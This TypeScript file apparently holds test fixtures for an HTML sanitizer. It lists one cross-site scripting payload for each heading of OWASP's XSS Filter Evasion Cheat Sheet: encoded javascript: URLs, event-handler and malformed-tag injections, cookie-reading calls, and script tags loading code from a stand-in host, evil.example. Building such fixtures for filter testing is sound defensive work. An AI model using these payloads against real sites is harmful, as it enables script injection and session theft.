/**
 * One attack for each heading of OWASP's XSS Filter Evasion Cheat Sheet
 * (https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html): its
 * techniques, on addresses and names of our own; `owasp-styles-and-links.ts` has those from style
 * sheets on.
 */
const spelled = "javascript:steal(1)";
const decimal = [...spelled].map((sign) => `&#${sign.codePointAt(0)}`);
const padded = [...spelled].map((sign) => `&#${String(sign.codePointAt(0)).padStart(7, "0")}`);
const hexadecimal = [...spelled].map((sign) => `&#x${sign.codePointAt(0)?.toString(16)}`);

const events = [
  ...["abort", "activate", "afterprint", "beforecopy", "begin", "blur", "bounce", "change"],
  ...["click", "contextmenu", "copy", "cut", "dblclick", "drag", "drop", "end", "error", "finish"],
  ...[
    "focus",
    "hashchange",
    "input",
    "keydown",
    "load",
    "message",
    "mouseover",
    "paste",
    "popstate",
  ],
  ...["readystatechange", "repeat", "reset", "resize", "scroll", "select", "start", "storage"],
  ...["submit", "toggle", "unload", "wheel"],
];

export const owaspFilterEvasion: Readonly<Record<string, string>> = {
  "Basic XSS Test Without Filter Evasion": "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
  "XSS Locator (Polyglot)":
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"`/+/onclick=1/+/[*/[]/+steal(1);//'>",
  "Malformed A Tags": '\\<a onmouseover="steal(document.cookie)"\\>link\\</a\\>',
  "Malformed A Tags, without quotes": "<a onmouseover=steal(document.cookie)>link</a>",
  "Malformed IMG Tags": '<IMG """><SCRIPT>steal("1")</SCRIPT>"\\>',
  fromCharCode: "<IMG SRC=javascript:steal(String.fromCharCode(49,50))>",
  "Default SRC Tag to Get Past Filters that Check SRC Domain":
    "<IMG SRC=# onmouseover=\"steal('1')\">",
  "Default SRC Tag by Leaving it Empty": "<IMG SRC= onmouseover=\"steal('1')\">",
  "Default SRC Tag by Leaving it out Entirely": "<IMG onmouseover=\"steal('1')\">",
  "On Error Alert": '<IMG SRC=/ onerror="steal(String.fromCharCode(49))"></img>',
  "IMG onerror and JavaScript Alert Encode": `<img src=x onerror="${padded.join("")}">`,
  "Decimal HTML Character References": `<A HREF=${decimal.join(";")};>a</A><IMG SRC=${decimal.join(";")};>`,
  "Decimal HTML Character References Without Trailing Semicolons": `<A HREF=${padded.join("")}>a</A>`,
  "Hexadecimal HTML Character References Without Trailing Semicolons": `<A HREF=${hexadecimal.join("")}>a</A>`,
  "Embedded Tab": '<a href="jav\tascript:steal(1);">a</a><IMG SRC="jav\tascript:steal(1);">',
  "Embedded Encoded Tab": '<a href="jav&#x09;ascript:steal(1);">a</a>',
  "Embedded Newline to Break Up XSS": '<a href="jav&#x0A;ascript:steal(1);">a</a>',
  "Embedded Carriage Return": '<a href="jav&#x0D;ascript:steal(1);">a</a>',
  "Break Up JavaScript Directive with Null":
    '<a href="java\0script:steal(1)">a</a><scr\0ipt>steal(1)</script>',
  "Spaces and Meta Chars Before the JavaScript":
    '<a href=" &#14; \u0001 javascript:steal(1);">a</a>',
  "Non-alpha-non-digit XSS": '<SCRIPT/XSS SRC="https://evil.example/x.js"></SCRIPT>',
  "Non-alpha-non-digit XSS, in an event": '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=steal("1")>',
  "Non-alpha-non-digit XSS, a slash for a space":
    '<SCRIPT/SRC="https://evil.example/x.js"></SCRIPT>',
  "Extraneous Open Brackets": '<<SCRIPT>steal("1");//\\<</SCRIPT>',
  "No Closing Script Tags": "<SCRIPT SRC=https://evil.example/x.js?< B >",
  "Protocol Resolution in Script Tags": "<SCRIPT SRC=//evil.example/.j>",
  "Half Open HTML/JavaScript XSS Vector": "<IMG SRC=\"javascript:steal('1')\"",
  "Double Open Angle Brackets": "<iframe src=https://evil.example/x.html <",
  "Escaping JavaScript Escapes": "\\\";steal('1');//</script><script>steal('2');</script>",
  "End Title Tag": '</TITLE><SCRIPT>steal("1");</SCRIPT>',
  "INPUT Image": '<INPUT TYPE="IMAGE" SRC="javascript:steal(1);">',
  "BODY Image": '<BODY BACKGROUND="javascript:steal(1)">',
  "IMG Dynsrc": '<IMG DYNSRC="javascript:steal(1)">',
  "IMG Lowsrc": '<IMG LOWSRC="javascript:steal(1)">',
  "List-style-image":
    '<STYLE>li {list-style-image: url("javascript:steal(1)");}</STYLE><UL><LI>a</br>',
  "VBscript in an Image": "<IMG SRC='vbscript:msgbox(\"1\")'><a href='vbscript:msgbox(1)'>a</a>",
  "Livescript (older versions of Netscape only)":
    '<IMG SRC="livescript:1"><a href="livescript:1">a</a>',
  "SVG Object Tag": "<svg/onload=steal('1')>",
  "ECMAScript 6": '<a href="javascript:Set.constructor`steal\\x281\\x29`">a</a>',
  "BODY Tag": "<BODY ONLOAD =steal('1')>",
  "Attacks Using Event Handlers": events
    .map((event) => `<p on${event}="steal(1)" ON${event.toUpperCase()} = steal(2)>a</p>`)
    .join(""),
  BGSOUND: '<BGSOUND SRC="javascript:steal(1);">',
  "& JavaScript includes": "<BR SIZE=\"&{steal('1')}\">",
};
